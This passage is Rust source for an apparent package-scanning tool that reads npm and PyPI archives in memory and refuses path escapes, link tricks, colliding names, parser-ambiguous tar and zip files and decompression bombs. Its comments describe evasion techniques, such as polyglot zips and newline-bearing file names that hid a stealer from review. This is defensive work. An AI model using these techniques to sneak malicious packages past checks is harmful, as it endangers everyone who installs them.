//! Package archive readers: npm `.tgz`, PyPI sdists (`.tar.gz`, `.zip`,
//! `.tar.bz2`), wheels (`.whl`), eggs, plain `.tar`, and unpacked
//! directories.
//!
//! This module must never read an archive differently from the installers
//! that will unpack it: what is judged must be what pip or npm would write.
//! Where Python's tarfile and the tar crate disagree, the reading follows
//! Python (every member of a multi-member gzip stream, unknown entry types
//! as regular files) or, where it cannot, the archive is refused
//! ([`ArchiveError::Ambiguous`]: pax global headers that rename members, pax
//! names set twice or against a GNU long name, long names and pax headers
//! only Python applies, links, directories and devices declaring data that
//! Python reads as the next headers, data after the end of the archive that
//! npm's tar reads as members). Zips are read as Python's zipfile
//! reads them: an entry marked as a symbolic link is a file holding its
//! bytes. A zip whose central directory Python would find elsewhere or list
//! otherwise than the zip crate, or whose local headers (what a streaming
//! reader walks) name, compress or size an entry otherwise or hold one the
//! directory does not list, is refused.
//!
//! Archives are read in memory, streaming through the decompressor, and never
//! extracted to disk. Only regular files are collected; links and devices are
//! noted, never followed. A member that escapes the root (`..`, an absolute
//! path, a NUL byte) or is written through a link is an attack on whoever
//! unpacks the archive, and the whole archive is refused naming that member.
//! Every size cap (input, member, total, member count, compression ratio) is
//! enforced while reading, so memory stays bounded on a decompression bomb;
//! what the tar reader reads on its own between members (headers, long
//! names, pax records) is metered too (`TAR_METADATA_MAX`).
//!
//! An archive inside the package (a vendored `.zip` that `sys.path` imports
//! from, a `.tar.gz` that `setup.py` unpacks, a file that is a zip whatever
//! its name) is opened by its content, up to `limits.max-nesting` levels, and
//! its files are read as a folder under its own path, under the same caps: a
//! payload must not hide from the pre-check by being zipped once more.
//! Deeper nesting, or an inner archive that cannot be read, blocks.

use std::collections::BTreeSet;
use std::io::{Cursor, Read};
use std::path::Path;

use crate::config::Limits;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ArchiveFormat {
    TarGz,
    TarBz2,
    Tar,
    Zip,
}

impl ArchiveFormat {
    pub fn from_path(path: &Path) -> Option<ArchiveFormat> {
        let name = path.file_name()?.to_string_lossy().to_ascii_lowercase();
        if name.ends_with(".tgz") || name.ends_with(".tar.gz") {
            Some(ArchiveFormat::TarGz)
        } else if name.ends_with(".tar.bz2") || name.ends_with(".tbz2") || name.ends_with(".tbz") {
            Some(ArchiveFormat::TarBz2)
        } else if name.ends_with(".tar") {
            Some(ArchiveFormat::Tar)
        } else if name.ends_with(".zip") || name.ends_with(".whl") || name.ends_with(".egg") {
            // An egg is a zip that Python imports from as it is.
            Some(ArchiveFormat::Zip)
        } else {
            None
        }
    }

    /// The format in words, for reports.
    pub fn describe(self) -> &'static str {
        match self {
            ArchiveFormat::TarGz => "gzip-compressed tar",
            ArchiveFormat::TarBz2 => "bzip2-compressed tar",
            ArchiveFormat::Tar => "tar",
            ArchiveFormat::Zip => "zip (or wheel)",
        }
    }

    /// The format the bytes say they are, when the name and content disagree.
    pub fn sniff(bytes: &[u8]) -> Option<ArchiveFormat> {
        if bytes.starts_with(&[0x1f, 0x8b]) {
            Some(ArchiveFormat::TarGz)
        } else if bytes.starts_with(b"BZh") {
            Some(ArchiveFormat::TarBz2)
        } else if bytes.starts_with(b"PK\x03\x04") || bytes.starts_with(b"PK\x05\x06") {
            Some(ArchiveFormat::Zip)
        } else if bytes.len() > 262 && &bytes[257..262] == b"ustar" {
            Some(ArchiveFormat::Tar)
        } else {
            None
        }
    }

    /// The format of a member's bytes when they are an archive, by stricter
    /// magic than [`ArchiveFormat::sniff`]: every member is tested, and a
    /// text that merely begins with `BZh` must not be taken for one (an
    /// inner archive that fails to read blocks the package). A gzip or
    /// bzip2 stream may hold a tar or a single file; both are opened.
    pub fn sniff_member(bytes: &[u8]) -> Option<ArchiveFormat> {
        const BZ_BLOCK: [u8; 6] = [0x31, 0x41, 0x59, 0x26, 0x53, 0x59];
        const BZ_END: [u8; 6] = [0x17, 0x72, 0x45, 0x38, 0x50, 0x90];
        if bytes.starts_with(&[0x1f, 0x8b, 0x08]) {
            Some(ArchiveFormat::TarGz)
        } else if bytes.len() >= 10
            && bytes.starts_with(b"BZh")
            && (b'1'..=b'9').contains(&bytes[3])
            && (bytes[4..10] == BZ_BLOCK || bytes[4..10] == BZ_END)
        {
            Some(ArchiveFormat::TarBz2)
        } else if bytes.starts_with(b"PK\x03\x04") || bytes.starts_with(b"PK\x05\x06") {
            Some(ArchiveFormat::Zip)
        } else if is_tar_header(bytes) {
            Some(ArchiveFormat::Tar)
        } else {
            None
        }
    }
}

/// A package archive's format: by its name, else, for a regular file whose
/// name does not say, by its first bytes. Caches and mirrors store archives
/// under hashes (npm's `_cacache`, content-addressed stores), and a name is
/// the uploader's to choose: a package must not go unjudged for lack of an
/// extension. A gzip stream counts only when it holds a tar (a `.json.gz`
/// index is not a package); any zip counts, as Python imports from one.
pub fn package_format(path: &Path) -> Option<ArchiveFormat> {
    ArchiveFormat::from_path(path).or_else(|| sniff_file(path))
}

fn sniff_file(path: &Path) -> Option<ArchiveFormat> {
    // Never opens a pipe or device: opening a pipe waits for a writer.
    if !std::fs::metadata(path).ok()?.is_file() {
        return None;
    }
    let mut head = Vec::with_capacity(BINARY_PROBE);
    std::fs::File::open(path)
        .ok()?
        .take(BINARY_PROBE as u64)
        .read_to_end(&mut head)
        .ok()?;
    match ArchiveFormat::sniff_member(&head)? {
        ArchiveFormat::TarGz => {
            let mut out = Vec::with_capacity(512);
            // The head is a cut stream: what inflated before the cut is kept.
            let _ = flate2::read::MultiGzDecoder::new(&head[..])
                .take(512)
                .read_to_end(&mut out);
            is_tar_header(&out).then_some(ArchiveFormat::TarGz)
        }
        f => Some(f),
    }
}

/// Package archive names Canary knows but cannot read, and what they are
/// (with an article):
/// a folder of packages must not pass such a file over as "not a package".
pub fn unreadable_package_format(path: &Path) -> Option<&'static str> {
    let name = path.file_name()?.to_string_lossy().to_ascii_lowercase();
    const NAMES: &[(&str, &str)] = &[
        (".tar.xz", "an xz-compressed tar"),
        (".txz", "an xz-compressed tar"),
        (".tar.zst", "a zstd-compressed tar"),
        (".tzst", "a zstd-compressed tar"),
        (".tar.lz", "an lzip-compressed tar"),
        (".tar.lzma", "an lzma-compressed tar"),
        (".tlz", "an lzma-compressed tar"),
        (".tar.z", "a compress(1)-compressed tar"),
        (".7z", "a 7-Zip"),
        (".rar", "a RAR"),
    ];
    NAMES
        .iter()
        .find(|(ext, _)| name.ends_with(ext))
        .map(|(_, what)| *what)
}

/// Whether `h` begins with a POSIX (ustar) or GNU tar header whose checksum
/// holds: the magic alone could occur in text.
fn is_tar_header(h: &[u8]) -> bool {
    if h.len() < 512 || &h[257..262] != b"ustar" {
        return false;
    }
    let field = &h[148..156];
    let digits = field
        .iter()
        .skip_while(|&&b| b == b' ')
        .take_while(|b| (b'0'..=b'7').contains(*b));
    let mut stored: u32 = 0;
    let mut any = false;
    for &d in digits {
        any = true;
        stored = match stored.checked_mul(8) {
            Some(v) => v + u32::from(d - b'0'),
            None => return false,
        };
    }
    // The sum of the header's bytes with the checksum field read as spaces;
    // some old writers summed signed bytes.
    let (mut unsigned, mut signed) = (0u32, 0i32);
    for (i, &b) in h[..512].iter().enumerate() {
        let b = if (148..156).contains(&i) { b' ' } else { b };
        unsigned += u32::from(b);
        signed += i32::from(b as i8);
    }
    any && (stored == unsigned || i64::from(stored) == i64::from(signed))
}

/// One regular file of a package.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Member {
    /// Path relative to the archive root, `/`-separated.
    pub path: String,
    pub data: Vec<u8>,
}

/// The regular files of a package, with what was seen but not read.
#[derive(Debug, Clone, Default)]
pub struct Package {
    pub members: Vec<Member>,
    pub notes: Vec<String>,
    /// Links inside the package (never followed) as (link, the path it
    /// leads to), both as archive paths: unpacking makes the link a second
    /// name for that file, which rendering must know (see
    /// `render::linked_note`).
    pub links: Vec<(String, String)>,
}

#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum ArchiveError {
    #[error("archive member {member:?} escapes the archive root ({why}); an archive that writes outside its folder is an attack on whoever unpacks it")]
    Escape { member: String, why: String },
    #[error("archive member {member:?} has a control character in its path; a name with a line break shows line-based readers (the rendered diff the pre-check reads, a reviewer's terminal) another file than the one unpacked, and no real package has one")]
    ControlInPath { member: String },
    #[error("archive member {member:?} is written through the link {link:?}; an archive that writes through a link is an attack on whoever unpacks it")]
    ThroughLink { member: String, link: String },
    #[error("archive member {member:?}: {why}; an archive that shows different readers different files is refused")]
    Ambiguous { member: String, why: String },
    #[error("{member:?} is a symbolic link to {target:?}, outside the package folder: what it reaches was never read, and a build or install from this folder would read it; scan the target on its own, or put the file itself in the folder")]
    LinkOutside { member: String, target: String },
    #[error(
        "archive member {member:?} appears twice; a later copy could overwrite what a reviewer saw"
    )]
    Duplicate { member: String },
    #[error("archive member {member} has a path of {len} bytes, longer than any file system unpacks (Linux's PATH_MAX is {PATH_MAX}); no real package has one, and reading such names costs what a decompression bomb costs")]
    PathTooLong { member: String, len: usize },
    #[error("the members' paths hold more than {what} in all (at {member}), where the largest of 591 real packages measured hold {real}: a decompression bomb in the names; the package was not fully read")]
    PathsTooLong {
        member: String,
        what: String,
        real: &'static str,
    },
    #[error("limit hit: {what} (limits.{key} = {limit}); the package was not fully read")]
    Limit {
        what: String,
        key: &'static str,
        limit: u64,
    },
    #[error("corrupt or truncated archive: {0}")]
    Corrupt(String),
    #[error("cannot read {0}")]
    Io(String),
}

/// The longest member path read, in bytes: Linux's `PATH_MAX`. pip and
/// npm cannot unpack a longer one (`ENAMETOOLONG`); the longest of 591 real
/// packages measured is 165 bytes.
const PATH_MAX: usize = 4096;

/// The most bytes all member paths of a package may hold together. A path
/// is read by every rule that places a file, many of them part by part
/// (about 165 ns a byte for a path of 2,000 one-letter folders, some 20
/// times a byte of content), and in a `.tar.gz` names compress as content
/// does: 250 paths of 200 KB, 95 KB compressed, took 7.6 s and 409 MiB
/// before this cap. The largest total of 591 real packages is 0.6 MB
/// (numpy's sdist).
const PATHS_MAX: u64 = 16 << 20;

/// The most `/`-separated parts all member paths of a package may hold
/// together. Rules pay for a path part by part, so narrow parts cost most:
/// 10 MB of paths took 1.60 s as 2,500 paths of 2,000 one-letter folders
/// and 0.33 s as paths of 15 folders of 249 letters. The largest total of
/// 591 real packages measured is 62,416 parts (django's sdist: 10,312
/// paths); no path of theirs is deeper than 13 parts.
const PATH_PARTS_MAX: u64 = 2_000_000;

/// A path as an error names it, quoted: whole up to 120 bytes, else its
/// first 120 (cut at a character boundary) and `…`.
fn shown_path(path: &str) -> String {
    let mut end = path.len().min(120);
    while !path.is_char_boundary(end) {
        end -= 1;
    }
    match end == path.len() {
        true => format!("{path:?}"),
        false => format!("{:?}…", &path[..end]),
    }
}

/// Counts the decompressed bytes of the whole archive and stops at the total
/// and ratio caps, whichever comes first.
struct Budget {
    limits: Limits,
    compressed: u64,
    total: u64,
    members: u64,
    /// Path bytes still allowed ([`PATHS_MAX`]).
    paths_left: u64,
    /// Path parts still allowed ([`PATH_PARTS_MAX`]).
    parts_left: u64,
}

impl Budget {
    fn new(limits: &Limits, compressed: u64) -> Budget {
        Budget {
            limits: *limits,
            compressed: compressed.max(1),
            total: 0,
            members: 0,
            paths_left: PATHS_MAX,
            parts_left: PATH_PARTS_MAX,
        }
    }

    fn total_cap(&self) -> u64 {
        // Small archives get the ratio computed on at least 64 KiB so that a
        // tiny but legitimate archive with text is not called a bomb.
        let ratio_cap = self
            .compressed
            .max(64 * 1024)
            .saturating_mul(self.limits.max_ratio);
        self.limits.max_total_bytes.min(ratio_cap)
    }

    fn add_member(&mut self, name: &str) -> Result<(), ArchiveError> {
        if name.len() > PATH_MAX {
            return Err(ArchiveError::PathTooLong {
                member: shown_path(name),
                len: name.len(),
            });
        }
        let parts = memchr::memchr_iter(b'/', name.as_bytes()).count() as u64 + 1;
        let too_many = |what: String, real| ArchiveError::PathsTooLong {
            member: shown_path(name),
            what,
            real,
        };
        self.paths_left = self
            .paths_left
            .checked_sub(name.len() as u64)
            .ok_or_else(|| too_many(format!("{PATHS_MAX} bytes"), "0.6 MB"))?;
        self.parts_left = self
            .parts_left
            .checked_sub(parts)
            .ok_or_else(|| too_many(format!("{PATH_PARTS_MAX} parts"), "62,416 parts"))?;
        self.members += 1;
        if self.members > self.limits.max_members {
            return Err(ArchiveError::Limit {
                what: format!(
                    "more than {} members (at {name:?})",
                    self.limits.max_members
                ),
                key: "max-members",
                limit: self.limits.max_members,
            });
        }
        Ok(())
    }

    /// Reads one member fully, enforcing the member and total caps as it goes.
    /// `declared` is the size the archive claims for it: a capacity hint only.
    fn read_member(
        &mut self,
        name: &str,
        reader: &mut dyn Read,
        declared: u64,
    ) -> Result<Vec<u8>, ArchiveError> {
        self.read_member_capped(name, reader, None, declared)
    }

    /// As [`Budget::read_member`], and also stops a member whose own
    /// compressed size is known (zip) once it inflates past the ratio cap, so
    /// a bomb is caught after a few MB instead of at the whole-archive cap.
    fn read_member_capped(
        &mut self,
        name: &str,
        reader: &mut dyn Read,
        member_compressed: Option<u64>,
        declared: u64,
    ) -> Result<Vec<u8>, ArchiveError> {
        let member_cap = member_compressed
            .map(|c| c.max(64 * 1024).saturating_mul(self.limits.max_ratio))
            .unwrap_or(u64::MAX);
        // Read at most one byte past the tightest cap: that byte proves the
        // cap is exceeded, and memory never holds more than the cap.
        let room = self.total_cap().saturating_sub(self.total);
        let limit = member_cap.min(self.limits.max_member_bytes).min(room);
        // The declared size saves regrowing (and copying) the buffer. It is
        // the archive's claim, so it is capped, and a buffer it oversized is
        // given back below.
        let hint = declared.min(limit).min(MAX_SIZE_HINT) as usize;
        let mut data = Vec::with_capacity(hint);
        reader
            .take(limit.saturating_add(1))
            .read_to_end(&mut data)
            .map_err(|e| ArchiveError::Corrupt(format!("reading member {name:?}: {e}")))?;
        if data.capacity() - data.len() > 64 * 1024 {
            data.shrink_to_fit();
        }
        let n = data.len() as u64;
        self.total += n;
        if n > member_cap {
            return Err(ArchiveError::Limit {
                what: format!(
                    "compression ratio above {} in member {name:?} ({} compressed bytes inflate past {member_cap}): a decompression bomb",
                    self.limits.max_ratio,
                    member_compressed.unwrap_or(0)
                ),
                key: "max-ratio",
                limit: self.limits.max_ratio,
            });
        }
        if n > self.limits.max_member_bytes {
            return Err(ArchiveError::Limit {
                what: format!(
                    "member {name:?} is larger than {} bytes",
                    self.limits.max_member_bytes
                ),
                key: "max-member-bytes",
                limit: self.limits.max_member_bytes,
            });
        }
        self.check_total(name)?;
        Ok(data)
    }

    /// The whole-archive caps, after `name` added its bytes to the total.
    fn check_total(&self, name: &str) -> Result<(), ArchiveError> {
        if self.total > self.total_cap() {
            let ratio = self.total / self.compressed;
            return Err(if self.total > self.limits.max_total_bytes {
                ArchiveError::Limit {
                    what: format!(
                        "more than {} uncompressed bytes (at {name:?})",
                        self.limits.max_total_bytes
                    ),
                    key: "max-total-bytes",
                    limit: self.limits.max_total_bytes,
                }
            } else {
                ArchiveError::Limit {
                    what: format!("compression ratio above {} (at least {ratio}:1 at {name:?}): a decompression bomb", self.limits.max_ratio),
                    key: "max-ratio",
                    limit: self.limits.max_ratio,
                }
            });
        }
        Ok(())
    }
}

/// Largest buffer reserved on an archive's word before any byte is read.
const MAX_SIZE_HINT: u64 = 16 << 20;

/// The bytes that decide whether a member is binary (a NUL among them).
pub const BINARY_PROBE: usize = 8192;

/// Whether a member is binary: a NUL among its first [`BINARY_PROBE`]
/// bytes (the corpus rule). Rendering and the inner-archive reader decide it
/// here, so a binary read only to its probe is the binary the renderer shows.
pub fn is_binary(data: &[u8]) -> bool {
    data[..data.len().min(BINARY_PROBE)].contains(&0)
}

impl Budget {
    /// A member of an inner archive. It is read whole only when it is text
    /// or itself an archive: a binary renders as one `Binary file` line
    /// whatever it holds, so its first [`BINARY_PROBE`] bytes (which decide
    /// that), its size and its checksum stand in for the rest, which is not
    /// decompressed. Packages carry large, highly compressible binary data
    /// in inner archives (scipy's `.npz` test matrices: 177 MB from 276 KB),
    /// which would otherwise trip the caps meant for bombs.
    ///
    /// A tar is read in order, so the rest of a binary in one is still
    /// decompressed to reach the next member: with `drain` it is read into
    /// nothing but counted against the total and ratio caps, which bound
    /// that work (a zip member is simply left unread).
    fn read_inner_member(
        &mut self,
        name: &str,
        reader: &mut dyn Read,
        compressed: Option<u64>,
        declared: u64,
        checksum: Option<u32>,
        drain: bool,
    ) -> Result<Vec<u8>, ArchiveError> {
        let mut head = Vec::with_capacity(BINARY_PROBE);
        reader
            .take(BINARY_PROBE as u64)
            .read_to_end(&mut head)
            .map_err(|e| ArchiveError::Corrupt(format!("reading member {name:?}: {e}")))?;
        if head.len() < BINARY_PROBE
            || !is_binary(&head)
            || ArchiveFormat::sniff_member(&head).is_some()
        {
            return self.read_member_capped(
                name,
                &mut Cursor::new(head).chain(reader),
                compressed,
                declared,
            );
        }
        self.total += head.len() as u64;
        if drain {
            let room = self.total_cap().saturating_sub(self.total);
            let rest = std::io::copy(
                &mut reader.take(room.saturating_add(1)),
                &mut std::io::sink(),
            )
            .map_err(|e| ArchiveError::Corrupt(format!("reading member {name:?}: {e}")))?;
            self.total += rest;
            self.check_total(name)?;
        }
        // After the probe, so the line is still binary; in a version diff
        // two copies differ when their probe, size or checksum does.
        let crc = checksum.map_or_else(|| "none".to_string(), |c| format!("{c:08x}"));
        head.extend_from_slice(
            format!("\n[canary: binary, {declared} bytes declared, crc32 {crc}; not read past the first {BINARY_PROBE}]").as_bytes(),
        );
        Ok(head)
    }
}

/// Whether a name holds a control character or a Unicode line or
/// paragraph separator: in the rendered diff a line break in a path starts
/// a new line, so `lib/README.md\n/metrics.js` showed a README header over
/// a JavaScript file, and the veto, which reads headers to find code,
/// passed over it (a stealer so named in is-number was allowed).
fn has_control(name: &str) -> bool {
    name.chars()
        .any(|ch| ch.is_control() || ch == '\u{2028}' || ch == '\u{2029}')
}

/// `name` with each control character written as `<U+XXXX>`.
fn escape_controls(name: &str) -> String {
    name.chars()
        .map(|ch| {
            if ch.is_control() || ch == '\u{2028}' || ch == '\u{2029}' {
                // No backslash: paths take it for a separator.
                format!("<U+{:04X}>", u32::from(ch))
            } else {
                ch.to_string()
            }
        })
        .collect()
}

/// Checks a member path and returns it normalised (no `./`, `/`-separated).
pub fn check_member_path(raw: &[u8]) -> Result<String, ArchiveError> {
    let shown = String::from_utf8_lossy(raw).into_owned();
    let escape = |why: &str| ArchiveError::Escape {
        member: shown.clone(),
        why: why.to_string(),
    };
    if raw.contains(&0) {
        return Err(escape("NUL byte in the path"));
    }
    if has_control(&shown) {
        return Err(ArchiveError::ControlInPath { member: shown });
    }
    let text = shown.replace('\\', "/");
    if text.starts_with('/') || (text.len() > 1 && text.as_bytes()[1] == b':') {
        return Err(escape("absolute path"));
    }
    let mut parts = Vec::new();
    for part in text.split('/') {
        match part {
            "" | "." => {}
            ".." => return Err(escape("`..` component")),
            p => parts.push(p),
        }
    }
    Ok(parts.join("/"))
}

/// The path a link at `link_path` leads to, from the archive's root: its
/// target read from the link's folder (pass "" for a hard link, whose target
/// is already from the root). `None` when it leaves the root: the one
/// escape check for links, in archives and unpacked folders alike.
fn resolve_link(link_path: &str, target: &str) -> Option<String> {
    let mut parts: Vec<&str> = link_path.split('/').collect();
    parts.pop(); // the link's own name
    let target = target.replace('\\', "/");
    if target.starts_with('/') {
        return None;
    }
    walk_from(parts, &target)
}

/// `target`'s `/`-separated parts applied to the folder `parts` (`.` and
/// empty parts skipped, `..` going up), joined; `None` when `..` climbs
/// above the first part. Links here, and the files a `package.json` or a
/// `require` names in rendering, resolve through it.
pub(super) fn walk_from<'a>(mut parts: Vec<&'a str>, target: &'a str) -> Option<String> {
    for part in target.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop()?;
            }
            p => parts.push(p),
        }
    }
    Some(parts.join("/"))
}

/// Where each regular file goes as soon as it is read and checked.
pub type MemberSink<'a> = &'a mut (dyn FnMut(Member) + Send);

struct Collector<'a> {
    package: Package,
    seen: BTreeSet<String>,
    /// Each path of the package itself (files and links) as a file system
    /// that ignores case would name it, with the path first seen so.
    folded: std::collections::BTreeMap<String, String>,
    /// For a tarball: each path of the package itself without its first
    /// folder, as npm unpacks it (`strip: 1`, whatever the folder is
    /// called), folded as in `folded`, with the path first seen so.
    stripped: Option<std::collections::BTreeMap<String, String>>,
    links: BTreeSet<String>,
    /// Archives found inside the package and read as folders.
    nested: Vec<String>,
    /// Takes the members instead of `package.members` when set.
    sink: Option<MemberSink<'a>>,
}

/// Where a reader is: inside the package itself (depth 0, no prefix), or
/// inside an archive found in it, whose path prefixes its members' paths.
#[derive(Clone, Copy)]
struct Within<'p> {
    prefix: &'p str,
    depth: u32,
}

impl Within<'_> {
    const TOP: Within<'static> = Within {
        prefix: "",
        depth: 0,
    };

    /// A member's path in the package: its path in this archive, under the
    /// archive's own path when it is an inner one.
    fn full(&self, path: &str) -> String {
        if self.prefix.is_empty() {
            path.to_string()
        } else {
            format!("{}/{path}", self.prefix)
        }
    }
}

impl<'a> Collector<'a> {
    fn new(sink: Option<MemberSink<'a>>) -> Collector<'a> {
        Collector {
            package: Package::default(),
            seen: BTreeSet::new(),
            folded: Default::default(),
            stripped: None,
            links: BTreeSet::new(),
            nested: Vec::new(),
            sink,
        }
    }

    fn through_link(&self, path: &str) -> Option<String> {
        let mut prefix = String::new();
        for part in path.split('/') {
            if !prefix.is_empty() {
                prefix.push('/');
            }
            prefix.push_str(part);
            if prefix.len() < path.len() && self.links.contains(&prefix) {
                return Some(prefix);
            }
        }
        None
    }

    /// Checks that `path` is not written through a link: in the package
    /// itself that blocks; inside an inner archive it is noted (see
    /// [`Collector::claim`]), the note's words around it being `what` and
    /// `then`.
    fn not_through_link(
        &mut self,
        path: &str,
        depth: u32,
        (what, then): (&str, &str),
    ) -> Result<(), ArchiveError> {
        if let Some(link) = self.through_link(path) {
            if depth == 0 {
                return Err(ArchiveError::ThroughLink {
                    member: path.to_string(),
                    link,
                });
            }
            self.package.notes.push(format!(
                "{path}: {what}written through the link {link} inside an archive in the package{then}"
            ));
        }
        Ok(())
    }

    /// Checks that a file's path is written through no link and only once,
    /// and returns the path it is read under. `depth`: how many archives
    /// deep the file sits. In the package itself either fault blocks: it
    /// attacks whoever unpacks it. Inside an inner archive, which installing
    /// the package does not unpack, it is noted and the file is read all the
    /// same (a later copy under a new name), so its content is still judged:
    /// packages ship such archives as fixtures for their own unpacking code
    /// (distlib's `tests/evil.tar.gz`).
    fn claim(&mut self, path: String, depth: u32) -> Result<String, ArchiveError> {
        self.not_through_link(&path, depth, ("", "; read as it is"))?;
        self.not_a_twin(&path, depth)?;
        if self.seen.insert(path.clone()) {
            return Ok(path);
        }
        if depth == 0 {
            return Err(ArchiveError::Duplicate { member: path });
        }
        let mut n = 2;
        let copy = loop {
            let copy = format!("{path} (copy {n})");
            if self.seen.insert(copy.clone()) {
                break copy;
            }
            n += 1;
        };
        self.package.notes.push(format!(
            "{path}: appears more than once inside an archive in the package; the later copy is read as {copy:?}"
        ));
        Ok(copy)
    }

    /// In the package itself, a path that only a case-sensitive file
    /// system tells from one before it (`index.js` and `INDEX.js`, or
    /// `setup.py` and Windows' `setup.py.`) is refused: unpacked on macOS
    /// or Windows, both are written to one file and the later wins, so an
    /// install there runs another file than the one read under that name.
    /// Exact repeats are left to [`Collector::claim`]. In a tarball, two
    /// paths that differ only in their first folder are twins too: npm
    /// unpacks every member without it (`package/index.js` and
    /// `x/index.js` are both `index.js`), where pip and the render keep
    /// both. Inner archives are not unpacked by an install, and their
    /// twins are read as they are.
    fn not_a_twin(&mut self, path: &str, depth: u32) -> Result<(), ArchiveError> {
        use std::collections::btree_map::Entry;
        if depth > 0 {
            return Ok(());
        }
        let twin = |first: &String, why: &str| ArchiveError::Ambiguous {
            member: path.to_string(),
            why: format!(
                "its path names the same file as {first:?} {why}, the later replacing the earlier"
            ),
        };
        match self.folded.entry(fold_path(path)) {
            Entry::Vacant(e) => {
                e.insert(path.to_string());
            }
            Entry::Occupied(e) if e.get() == path => return Ok(()),
            Entry::Occupied(e) => return Err(twin(
                e.get(),
                "on a file system that ignores letter case or, as Windows does, trailing dots and spaces (macOS and Windows by default): unpacked there, both are written to one file",
            )),
        }
        let (Some(stripped), Some((_, rest))) = (self.stripped.as_mut(), path.split_once('/'))
        else {
            return Ok(());
        };
        match stripped.entry(fold_path(rest)) {
            Entry::Vacant(e) => {
                e.insert(path.to_string());
                Ok(())
            }
            Entry::Occupied(e) => Err(twin(
                e.get(),
                "once npm unpacks the tarball, which it does without each member's first folder whatever that is called (strip 1): both are written to one file",
            )),
        }
    }

    fn file(&mut self, path: String, data: Vec<u8>, depth: u32) -> Result<(), ArchiveError> {
        let path = self.claim(path, depth)?;
        let m = Member { path, data };
        match self.sink.as_mut() {
            Some(sink) => sink(m),
            None => self.package.members.push(m),
        }
        Ok(())
    }

    /// A link at `path` in the archive being read (`at`): whether it escapes
    /// is judged from that archive's root, since that is where it would be
    /// unpacked.
    fn link(
        &mut self,
        path: &str,
        at: Within,
        target: &str,
        hard: bool,
    ) -> Result<(), ArchiveError> {
        let full = at.full(path);
        self.not_through_link(&full, at.depth, ("a link ", ""))?;
        self.not_a_twin(&full, at.depth)?;
        // Inside an inner archive, an escaping link is noted like any other
        // (see `member_path`): nothing is followed either way. A hard
        // link's target is a path from the archive's root, a symlink's one
        // from the link's folder.
        let from = if hard { "" } else { path };
        let to = resolve_link(from, target);
        if at.depth == 0 && to.is_none() {
            return Err(ArchiveError::Escape {
                member: full,
                why: format!(
                    "{} to {target:?} points outside the archive",
                    if hard { "hard link" } else { "symlink" }
                ),
            });
        }
        self.package.notes.push(format!(
            "{} {full} -> {target} not followed",
            if hard { "hard link" } else { "symlink" }
        ));
        if let Some(to) = to {
            self.package.links.push((full.clone(), at.full(&to)));
        }
        self.links.insert(full);
        Ok(())
    }

    /// One note naming the inner archives read (the first few, then a
    /// count), so a report says where its deeper paths come from.
    fn note_nested(&mut self, limits: &Limits) {
        const SHOWN: usize = 5;
        let n = self.nested.len();
        if n == 0 {
            return;
        }
        let names = crate::util::first_few(&self.nested, SHOWN);
        self.package.notes.push(format!(
            "{n} archive(s) inside the package opened and read as folders under their own paths (limits.max-nesting = {}): {names}",
            limits.max_nesting
        ));
    }
}

/// Hands a regular file to the collector, or, when its bytes are an
/// archive, reads that archive's files in its place (its path becomes their
/// folder). `depth`: how many archives deep the file itself sits.
fn emit(
    c: &mut Collector,
    budget: &mut Budget,
    path: String,
    data: Vec<u8>,
    depth: u32,
) -> Result<(), ArchiveError> {
    let format = ArchiveFormat::sniff_member(&data)
        .or_else(|| appended_zip(&data).then_some(ArchiveFormat::Zip));
    let Some(format) = format else {
        return c.file(path, data, depth);
    };
    let max = budget.limits.max_nesting;
    if depth >= max {
        return Err(ArchiveError::Limit {
            what: format!(
                "member {path:?} is itself a {} archive, {} archive(s) deep, and only {max} level(s) are opened",
                format.describe(),
                depth + 1
            ),
            key: "max-nesting",
            limit: u64::from(max),
        });
    }
    let path = c.claim(path, depth)?;
    c.nested.push(path.clone());
    let at = Within {
        prefix: &path,
        depth: depth + 1,
    };
    let result = match format {
        ArchiveFormat::Zip => read_zip(&data, budget, c, at),
        ArchiveFormat::Tar => read_tar(&data[..], budget, c, at),
        ArchiveFormat::TarGz => read_stream(GzMembers::new(&data[..]), budget, c, at),
        ArchiveFormat::TarBz2 => {
            read_stream(bzip2::read::MultiBzDecoder::new(&data[..]), budget, c, at)
        }
    };
    result.map_err(|e| match e {
        ArchiveError::Corrupt(why) => {
            ArchiveError::Corrupt(format!("archive inside the package at {path:?}: {why}"))
        }
        other => other,
    })
}

/// Whether a binary file ends in a readable zip with at least one entry:
/// a polyglot (an image or a blob with a zip appended), which Python
/// imports from as it is, since a zip is found from its end. Only a binary
/// whose last 64 KiB and 22 bytes hold an end-of-central-directory record
/// is tried, and one that does not open stays a file: four bytes by chance
/// in a compiled library must not block a package.
fn appended_zip(data: &[u8]) -> bool {
    const EOCD: &[u8] = b"PK\x05\x06";
    let tail = &data[data.len().saturating_sub(65_535 + 22)..];
    data.len() >= 22
        && is_binary(data)
        && memchr::memmem::find(tail, EOCD).is_some()
        && zip::ZipArchive::new(Cursor::new(data)).is_ok_and(|z| !z.is_empty())
}

/// A path as a file system that ignores letter case names it, each part
/// without the trailing dots and spaces Windows drops.
fn fold_path(path: &str) -> String {
    path.split('/')
        .map(|part| {
            let trimmed = part.trim_end_matches(['.', ' ']);
            if trimmed.is_empty() { part } else { trimmed }.to_lowercase()
        })
        .collect::<Vec<_>>()
        .join("/")
}

/// Whether Python's zipfile takes `bytes` for a zip, as pip's
/// `unpack_file` asks (`zipfile.is_zipfile`) before it tries tar, whatever
/// the file's name: an end-of-central-directory record closing the file, or
/// the last one in its final 64 KiB and 22 bytes with a whole record after
/// it (`zipfile._EndRecData`). A zip carried verbatim near a tarball's end
/// (in a gzip stored block, or an uncompressed tar's last member) makes a
/// file that tar readers and pip unpack differently. A tarball that holds
/// the four bytes by chance (about one in 65,000) fails to install with
/// pip, which tries to unzip it, so refusing it loses no working package.
pub fn python_finds_zip(bytes: &[u8]) -> bool {
    const EOCD: &[u8] = b"PK\x05\x06";
    const RECORD: usize = 22;
    if bytes.len() < RECORD {
        return false;
    }
    let last = &bytes[bytes.len() - RECORD..];
    if last.starts_with(EOCD) && last[RECORD - 2..] == [0, 0] {
        return true;
    }
    let tail = &bytes[bytes.len().saturating_sub((1 << 16) + RECORD)..];
    memchr::memmem::rfind(tail, EOCD).is_some_and(|at| at + RECORD <= tail.len())
}

/// An inner gzip or bzip2 stream: a tar when its first block is a tar
/// header, else one compressed file, read as `ARCHIVE/NAME` where NAME is
